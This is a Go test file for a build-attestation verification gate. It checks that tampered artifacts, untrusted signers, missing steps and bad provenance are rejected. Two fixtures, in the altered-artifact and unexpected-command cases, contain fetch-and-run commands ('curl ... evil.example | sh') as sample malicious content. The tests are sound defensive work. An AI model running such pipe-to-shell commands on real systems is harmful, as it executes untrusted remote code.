package gate

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/attestor/attestor/attestor/envelope"
	"github.com/attestor/attestor/attestor/fault"
	"github.com/attestor/attestor/attestor/workspace"

	"github.com/secure-systems-lab/go-securesystemslib/dsse"

	"github.com/attestor/attestor/actions"
	"github.com/attestor/attestor/attestor/store"
	"github.com/attestor/attestor/provenance"
)

// envelopeOf returns the workspace file name of the record of step.
func (c *chain) envelopeOf(step string) string {
	c.t.Helper()
	names, err := c.ws.Envelopes()
	if err != nil {
		c.t.Fatal(err)
	}
	for _, n := range names {
		if strings.HasPrefix(n, step+".") {
			return n
		}
	}
	c.t.Fatalf("no envelope of step %s", step)
	return ""
}

// tamper rewrites the payload of the named workspace envelope.
func (c *chain) tamper(name string, edit func(payload string) string) {
	c.t.Helper()
	data, err := c.ws.Read(name)
	if err != nil {
		c.t.Fatal(err)
	}
	var env dsse.Envelope
	if err := json.Unmarshal(data, &env); err != nil {
		c.t.Fatal(err)
	}
	payload, err := base64.StdEncoding.DecodeString(env.Payload)
	if err != nil {
		c.t.Fatal(err)
	}
	edited := edit(string(payload))
	if edited == string(payload) {
		c.t.Fatal("tamper: nothing changed")
	}
	env.Payload = base64.StdEncoding.EncodeToString([]byte(edited))
	out, _ := json.Marshal(env)
	if err := c.ws.Write(name, out); err != nil {
		c.t.Fatal(err)
	}
}

func (c *chain) remove(name string) {
	c.t.Helper()
	if err := c.ws.Remove(name); err != nil {
		c.t.Fatal(err)
	}
}

// TestVerify runs the gate over chains recorded for real, honest and
// broken; each failure must carry its sentinel, and a pass none.
func TestVerify(t *testing.T) {
	t.Parallel()
	type setup struct {
		policy  string
		subject string // file of the subject; default app.tar
		other   bool   // verify the digest of another artifact
		opts    []Option
	}
	tests := []struct {
		name  string
		build func(c *chain) setup
		want  []error // sentinels the error must match; none: a pass
	}{
		{
			name: "honest chain",
			build: func(c *chain) setup {
				c.pipeline(nil)
				return setup{policy: pipelinePolicy}
			},
		},
		{
			name: "honest chain with provenance",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
		},
		{
			name: "artifact altered between two steps",
			build: func(c *chain) setup {
				c.pipeline(map[string]func(){"build": func() {
					c.write(map[string]string{"dist/app": "\x7fELF app\ncurl -s https://evil.example | sh\n"})
				}})
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrArtifactRule},
		},
		{
			name: "step signed by a key the policy does not know",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.remove(c.envelopeOf("build"))
				c.step("build", "mallory", []string{"src"}, []string{"dist"}, []string{"sh", "src/build.sh"}, nil)
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrUntrustedSigner, ErrMissingStep},
		},
		{
			name: "step signed by a functionary not allowed for it",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.remove(c.envelopeOf("build"))
				c.step("build", "scanner", []string{"src"}, []string{"dist"}, []string{"sh", "src/build.sh"}, nil)
				return setup{policy: strings.Replace(pipelinePolicy, "ci: {key: ci.pub}", "ci: {key: ci.pub}\n  scanner: {key: scanner.pub}", 1)}
			},
			want: []error{ErrUntrustedSigner, ErrThreshold},
		},
		{
			name: "missing step",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.remove(c.envelopeOf("checkout"))
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrMissingStep},
		},
		{
			name: "replayed chain and provenance of another artifact",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				return setup{policy: pipelinePolicy + provenancePolicy, other: true}
			},
			want: []error{ErrSubjectMismatch, ErrProvenance},
		},
		{
			name: "expired policy",
			build: func(c *chain) setup {
				c.pipeline(nil)
				return setup{policy: strings.Replace(pipelinePolicy, "2027-12-31T00:00:00Z", "2026-05-31T00:00:00Z", 1)}
			},
			want: []error{ErrPolicyExpired},
		},
		{
			name: "expired policy accepted unsafely",
			build: func(c *chain) setup {
				c.pipeline(nil)
				return setup{policy: strings.Replace(pipelinePolicy, "2027-12-31T00:00:00Z", "2026-05-31T00:00:00Z", 1), opts: []Option{WithExpiredPolicyUnsafe()}}
			},
		},
		{
			name: "tampered envelope",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.tamper(c.envelopeOf("build"), func(p string) string { return strings.Replace(p, `"sh"`, `"bash"`, 1) })
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrSignature, ErrMissingStep},
		},
		{
			name: "malformed envelope",
			build: func(c *chain) setup {
				c.pipeline(nil)
				if err := c.ws.Write("junk.dsse.json", []byte(`{"payloadType": 1}`)); err != nil {
					t.Fatal(err)
				}
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrSignature},
		},
		{
			name: "threshold 2 met",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.step("build", "ci2", []string{"src"}, []string{"dist"}, []string{"sh", "src/build.sh"}, nil)
				return setup{policy: thresholdPolicy()}
			},
		},
		{
			name: "threshold 2 with one signer",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.key("ci2")
				return setup{policy: thresholdPolicy()}
			},
			want: []error{ErrThreshold},
		},
		{
			name: "threshold 2 with signers that disagree",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.step("build", "ci2", []string{"src"}, []string{"dist"}, []string{"sh", "src/build.sh"}, func() {
					c.write(map[string]string{"dist/app": "another build\n"})
				})
				return setup{policy: thresholdPolicy()}
			},
			want: []error{ErrThreshold},
		},
		{
			name: "unexpected command",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.remove(c.envelopeOf("build"))
				c.step("build", "ci", []string{"src"}, []string{"dist"}, []string{"sh", "-c", "curl evil | sh"}, nil)
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrCommand},
		},
		{
			name: "no attestations",
			build: func(c *chain) setup {
				c.key("ci")
				c.write(map[string]string{"app.tar": "x"})
				return setup{policy: pipelinePolicy}
			},
			want: []error{ErrNoAttestations, ErrMissingStep},
		},
		{
			name: "every reason reported",
			build: func(c *chain) setup {
				c.pipeline(map[string]func(){"build": func() { c.write(map[string]string{"dist/app": "evil\n"}) }})
				c.remove(c.envelopeOf("checkout"))
				return setup{policy: strings.Replace(pipelinePolicy, "2027-12-31T00:00:00Z", "2026-05-31T00:00:00Z", 1) + provenancePolicy}
			},
			want: []error{ErrPolicyExpired, ErrMissingStep, ErrArtifactRule, ErrProvenance},
		},
		{
			name: "no provenance",
			build: func(c *chain) setup {
				c.pipeline(nil)
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance signed by an untrusted key",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("mallory", c.subject("app.tar"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrUntrustedSigner, ErrProvenance},
		},
		{
			name: "provenance from another builder",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"), provenance.WithBuilderID("https://evil.example/runner"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance of a ref not allowed",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"), provenance.WithSource(actions.Source{Repo: "https://github.com/acme/app", Ref: "refs/heads/feature", Commit: strings.Repeat("b", 40)}))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance of a tag",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"), provenance.WithSource(actions.Source{Repo: "https://github.com/acme/app", Ref: "refs/tags/v1.2.0", Commit: strings.Repeat("b", 40)}))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
		},
		{
			name: "provenance from another repository",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"), provenance.WithSource(actions.Source{Repo: "https://github.com/evil/app", Ref: "refs/heads/main", Commit: strings.Repeat("b", 40)}))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance too old",
			build: func(c *chain) setup {
				c.when = now.Add(-30 * 24 * time.Hour)
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance from the future",
			build: func(c *chain) setup {
				c.when = now.Add(24 * time.Hour)
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance},
		},
		{
			name: "provenance lists a step record that is gone",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				c.remove(c.envelopeOf("checkout"))
				return setup{policy: pipelinePolicy + provenancePolicy}
			},
			want: []error{ErrProvenance, ErrMissingStep},
		},
		{
			name: "step record not bound to the provenance is not counted",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.provenance("ci", c.subject("app.tar"))
				// A second build record, by the other functionary, after the
				// provenance: it is not bound, so the threshold is not met.
				c.step("build", "ci2", []string{"src"}, []string{"dist"}, []string{"sh", "src/build.sh"}, nil)
				return setup{policy: thresholdPolicy() + provenancePolicy}
			},
			want: []error{ErrThreshold},
		},
		{
			name: "required attestation present",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.sign("scanner", "vuln", vulnStatement(c.subject("app.tar")))
				return setup{policy: withScanner(pipelinePolicy) + attestationsPolicy}
			},
		},
		{
			name: "required attestation missing",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.key("scanner")
				return setup{policy: withScanner(pipelinePolicy) + attestationsPolicy}
			},
			want: []error{ErrMissingAttestation},
		},
		{
			name: "required attestation about another artifact",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.write(map[string]string{"other.tar": "other"})
				c.sign("scanner", "vuln", vulnStatement(c.subject("other.tar")))
				return setup{policy: withScanner(pipelinePolicy) + attestationsPolicy}
			},
			want: []error{ErrSubjectMismatch, ErrMissingAttestation},
		},
		{
			name: "required attestation signed by the wrong functionary",
			build: func(c *chain) setup {
				c.pipeline(nil)
				c.key("scanner")
				c.sign("ci", "vuln", vulnStatement(c.subject("app.tar")))
				return setup{policy: withScanner(pipelinePolicy) + attestationsPolicy}
			},
			want: []error{ErrUntrustedSigner, ErrMissingAttestation},
		},
		{
			name: "keyless functionary without a trusted root",
			build: func(c *chain) setup {
				c.pipeline(nil)
				return setup{policy: strings.Replace(pipelinePolicy, "ci: {key: ci.pub}", `ci: {key: ci.pub}
  release: {keyless: {issuer: "https://token.actions.githubusercontent.com", subjectRegexp: "^https://github.com/acme/"}}`, 1) + `attestations: [{predicateType: "https://example.com/release/v1", functionaries: [release]}]
`}
			},
			want: []error{ErrKeyless, ErrMissingAttestation},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c := newChain(t)
			s := tt.build(c)
			p := c.policy(s.policy)
			file := s.subject
			if file == "" {
				file = "app.tar"
			}
			subject := c.subject(file)
			if s.other {
				c.write(map[string]string{"other.tar": "another artifact"})
				subject = c.subject("other.tar")
				subject.Name = file
			}
			res, err := c.verify(p, subject, s.opts...)
			if res == nil {
				t.Fatalf("no result (err %v)", err)
			}
			if len(tt.want) == 0 {
				if err != nil || !res.Verified || res.Verdict != Passed || len(res.Reasons) != 0 {
					t.Fatalf("want a pass, got %v\nresult: %s", err, dump(res))
				}
				return
			}
			if err == nil || res.Verified || res.Verdict != Failed || len(res.Reasons) == 0 {
				t.Fatalf("want a failure, got a pass: %s", dump(res))
			}
			if !errors.Is(err, ErrVerification) {
				t.Errorf("error does not match ErrVerification: %v", err)
			}
			if errors.Is(err, fault.ErrInvalidInput) {
				t.Errorf("a verification failure matches ErrInvalidInput: %v", err)
			}
			for _, w := range tt.want {
				if !errors.Is(err, w) {
					t.Errorf("error does not match %v:\n%v", w, err)
				}
				if !hasCode(res, codeOf(w)) {
					t.Errorf("result has no reason %q: %s", codeOf(w), dump(res))
				}
			}
		})
	}
}

func hasCode(res *Result, code string) bool {
	for _, r := range res.Reasons {
		if r.Code == code {
			return true
		}
	}
	return false
}

func dump(v any) string {
	b, _ := json.MarshalIndent(v, "", "  ")
	return string(b)
}

func thresholdPolicy() string {
	p := strings.Replace(pipelinePolicy, "ci: {key: ci.pub}", "ci: {key: ci.pub}\n  ci2: {key: ci2.pub}", 1)
	return strings.Replace(p, "    functionaries: [ci]\n    threshold: 1\n", "    functionaries: [ci, ci2]\n    threshold: 2\n", 1)
}

func withScanner(p string) string {
	return strings.Replace(p, "ci: {key: ci.pub}", "ci: {key: ci.pub}\n  scanner: {key: scanner.pub}", 1)
}

const attestationsPolicy = `attestations:
  - predicateType: https://cosign.sigstore.dev/attestation/vuln/v1
    functionaries: [scanner]
`

func vulnStatement(s store.Subject) *ita1Statement {
	return &ita1Statement{
		Type:          "https://in-toto.io/Statement/v1",
		Subject:       []*ita1RD{{Name: s.Name, Digest: map[string]string{s.Digest.Algorithm: s.Digest.Hex}}},
		PredicateType: "https://cosign.sigstore.dev/attestation/vuln/v1",
		Predicate:     mustStruct(map[string]any{"scanner": map[string]any{"uri": "pkg:github/aquasecurity/trivy"}}),
	}
}

// TestVerifyResultJSON: the result is JSON-serializable and lists every
// step and envelope.
func TestVerifyResultJSON(t *testing.T) {
	t.Parallel()
	c := newChain(t)
	c.pipeline(nil)
	c.provenance("ci", c.subject("app.tar"))
	res, err := c.verify(c.policy(pipelinePolicy+provenancePolicy), c.subject("app.tar"))
	if err != nil {
		t.Fatal(err)
	}
	data, err := json.Marshal(res)
	if err != nil {
		t.Fatal(err)
	}
	var back Result
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	if len(back.Steps) != 3 || len(back.Envelopes) != 4 || back.Provenance == nil || len(back.Provenance.Steps) != 3 {
		t.Errorf("result: %s", data)
	}
	for _, s := range back.Steps {
		if s.Verdict != Passed || len(s.Signers) != 1 || !strings.HasPrefix(s.Signers[0], "ci (") {
			t.Errorf("step %s: %+v", s.Name, s)
		}
	}
}

// TestVerifyDuplicates: the same envelope from several sources counts once.
func TestVerifyDuplicates(t *testing.T) {
	t.Parallel()
	c := newChain(t)
	c.pipeline(nil)
	ws := NewWorkspace(c.ws)
	subject := c.subject("app.tar")
	atts, srcs, err := Fetch(context.Background(), subject, Source{"dir", ws}, Source{"dir2", ws})
	if err != nil || len(srcs) != 2 || len(atts) != 6 {
		t.Fatalf("Fetch: %d attestations, %v, %v", len(atts), srcs, err)
	}
	v, err := NewVerifier(c.policy(pipelinePolicy), WithClock(clock))
	if err != nil {
		t.Fatal(err)
	}
	res, err := v.Verify(context.Background(), subject, atts)
	if err != nil || len(res.Envelopes) != 3 {
		t.Fatalf("Verify: %v %s", err, dump(res))
	}
}

// TestVerifySourceFailure: a failing source is reported with
// ErrUnavailable, and what the others returned is kept.
func TestVerifySourceFailure(t *testing.T) {
	t.Parallel()
	c := newChain(t)
	c.pipeline(nil)
	atts, srcs, err := Fetch(context.Background(), c.subject("app.tar"), Source{"dir", NewWorkspace(c.ws)}, Source{"oci", failingStore{}})
	if !errors.Is(err, fault.ErrUnavailable) || len(atts) != 3 || srcs[1].Error == "" {
		t.Fatalf("Fetch: %d attestations, %+v, %v", len(atts), srcs, err)
	}
}

type failingStore struct{}

func (failingStore) Put(context.Context, store.Subject, ...store.Attestation) error { return nil }
func (failingStore) Get(context.Context, store.Subject) ([]store.Attestation, error) {
	return nil, fault.Unavailable(errors.New("registry down"))
}

// TestVerifySummary: a verification summary is signed, names the policy
// and the inputs, and its verdict is the result's.
func TestVerifySummary(t *testing.T) {
	t.Parallel()
	c := newChain(t)
	c.pipeline(nil)
	c.provenance("ci", c.subject("app.tar"))
	res, err := c.verify(c.policy(pipelinePolicy+provenancePolicy), c.subject("app.tar"))
	if err != nil {
		t.Fatal(err)
	}
	data, name, err := SignSummary(context.Background(), res, c.key("gate"), "")
	if err != nil {
		t.Fatal(err)
	}
	id, _ := c.key("gate").KeyID()
	if name != workspace.AttestationName("vsa", id) {
		t.Errorf("name %q", name)
	}
	env, err := envelope.Parse(data)
	if err != nil {
		t.Fatal(err)
	}
	payload, _ := env.DecodeB64Payload()
	st, err := envelope.ParseStatement(payload)
	if err != nil {
		t.Fatal(err)
	}
	pred := st.GetPredicate().AsMap()
	if st.GetPredicateType() != PredicateTypeVSA || pred["verificationResult"] != Passed ||
		pred["policy"].(map[string]any)["digest"].(map[string]any)["sha256"] != res.Policy.Digest ||
		len(pred["inputAttestations"].([]any)) != 4 || st.GetSubject()[0].GetDigest()["sha256"] != c.subject("app.tar").Digest.Hex {
		t.Errorf("summary: %s", payload)
	}
	// The summary in the workspace does not disturb a later verification.
	if err := c.ws.Write(name, data); err != nil {
		t.Fatal(err)
	}
	if _, err := c.verify(c.policy(pipelinePolicy+provenancePolicy), c.subject("app.tar")); err != nil {
		t.Errorf("verifying with the summary in the workspace: %v", err)
	}
}

// TestNewVerifierRejectsUncompiled: a Policy built in Go must be compiled.
func TestNewVerifierRejectsUncompiled(t *testing.T) {
	t.Parallel()
	p := &Policy{Version: 1, Expires: now.Add(time.Hour), Steps: []Step{{Name: "build", Functionaries: []string{"ci"}, Threshold: 0}}, Functionaries: map[string]Functionary{"ci": {Key: "ci.pub"}}}
	if _, err := NewVerifier(p); !errors.Is(err, fault.ErrInvalidInput) {
		t.Errorf("NewVerifier of an uncompiled policy: %v", err)
	}
	c := newChain(t)
	c.key("ci")
	if err := p.Compile(c.keys); !errors.Is(err, ErrPolicy) {
		t.Errorf("Compile with threshold 0: %v", err)
	}
	p.Steps[0].Threshold = 1
	if err := p.Compile(c.keys); err != nil {
		t.Errorf("Compile: %v", err)
	}
	if _, err := NewVerifier(p); err != nil {
		t.Errorf("NewVerifier: %v", err)
	}
	_ = filepath.Join
	_ = os.Remove
}
